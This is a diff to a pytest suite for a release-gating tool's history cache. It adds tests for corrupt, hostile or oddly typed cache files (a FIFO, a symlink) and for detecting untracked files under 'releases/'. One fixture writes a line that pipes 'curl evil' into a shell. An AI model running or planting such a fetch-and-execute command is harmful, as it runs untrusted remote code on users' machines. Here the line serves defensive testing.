@@ -5,13 +5,14 @@ commit or rebuilt after a rewrite, every output is the same."""
 from __future__ import annotations
 
 import json
+import os
 from pathlib import Path
 
 import pytest
 
 from conftest import Repo, approve_all, make_repo
 from gatekeeper.records.history_cache import shared_index
-from gatekeeper.records.index import build
+from gatekeeper.records.index import FORMAT, build
 from gatekeeper.repo import open_repo
 
 
@@ -59,7 +60,7 @@ def _outputs(r: Repo, monkeypatch: pytest.MonkeyPatch, *, cache: bool) -> list[s
 
 
 def _cache_file(r: Repo) -> Path:
-    return r.path / ".git" / "gatekeeper" / "history-1.json"
+    return r.path / ".git" / "gatekeeper" / f"history-{FORMAT}.json"
 
 
 def test_outputs_are_byte_identical_with_and_without_the_cache(
@@ -129,9 +130,57 @@ def test_a_corrupt_or_foreign_cache_is_ignored(
     r = _history(tmp_path)
     expected = _outputs(r, monkeypatch, cache=False)
     _cache_file(r).parent.mkdir(parents=True)
-    for junk in ("{not json", '{"format": 99}', json.dumps({"format": 1, "releases": "x"})):
+    for junk in ("{not json", '{"format": 99}', json.dumps({"format": FORMAT, "releases": "x"})):
         _cache_file(r).write_text(junk)
         assert _outputs(r, monkeypatch, cache=True) == expected
+    _outputs(r, monkeypatch, cache=True)
+    good = json.loads(_cache_file(r).read_text())
+    head = good["line"][-1]
+    broken = [
+        {**good, "entry": {**good["entry"], head: ["a", 0]}},  # a depth that is no number
+        {**good, "entry": {**good["entry"], head: [len(good["line"]) + 5, 0]}},  # past the line
+        {**good, "line": good["line"][:-1]},  # the head's depth names nothing
+        {**good, "changes": {"v1.0.0": [["0" * 40, "a@b", "2026-01-01T00:00:00+00:00"] * 2]}},
+        {**good, "changes": {"v1.0.0": [["f" * 40, "a", "2026-01-01", "A", "p", "b", False]]}},
+        {**good, "loose": "releases/__init__.py"},
+        [good],
+    ]
+    for doc in broken:
+        _cache_file(r).write_text(json.dumps(doc))
+        assert _outputs(r, monkeypatch, cache=True) == expected
+    _cache_file(r).write_text("[" * 100_000 + "]" * 100_000)  # json's recursion limit
+    assert _outputs(r, monkeypatch, cache=True) == expected
+    _cache_file(r).unlink()
+    os.mkfifo(_cache_file(r))  # opened for reading, it waited for a writer forever
+    assert _outputs(r, monkeypatch, cache=True) == expected
+    elsewhere = tmp_path / "not-the-cache"
+    elsewhere.write_text("keep me\n")
+    _cache_file(r).unlink()
+    _cache_file(r).symlink_to(elsewhere)  # (a link to /dev/zero was read without end)
+    assert _outputs(r, monkeypatch, cache=True) == expected
+    assert elsewhere.read_text() == "keep me\n"  # the link was replaced, not written through
+    assert not _cache_file(r).is_symlink() and _cache_file(r).stat().st_size > 100
+
+
+def test_a_file_under_releases_that_is_no_record_is_stale_in_every_view(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The history index lets the binding skip the `releases/` tree while no such file was
+    ever committed; once one is, every view compares that tree again."""
+    r = make_repo(tmp_path)
+    _release(r, "v1.0.0")
+    for cache in (False, True):
+        monkeypatch.setenv("GATE_NO_CACHE", "0" if cache else "1")
+        status = json.loads(r.gate("status", "--format", "json").out)
+        assert status["releases"][0]["passed"] is True
+    r.write("releases/__init__.py", "import os; os.system('curl evil | sh')\n")
+    r.commit("a package marker", who="dave")
+    for cache in (False, True):
+        monkeypatch.setenv("GATE_NO_CACHE", "0" if cache else "1")
+        status = json.loads(r.gate("status", "--format", "json").out)
+        assert status["releases"][0]["passed"] is False
+        res = r.gate("audit", "--format", "json")
+        assert "releases/__init__.py" in res.out
 
 
 def test_the_index_answers_as_git_does(tmp_path: Path) -> None:
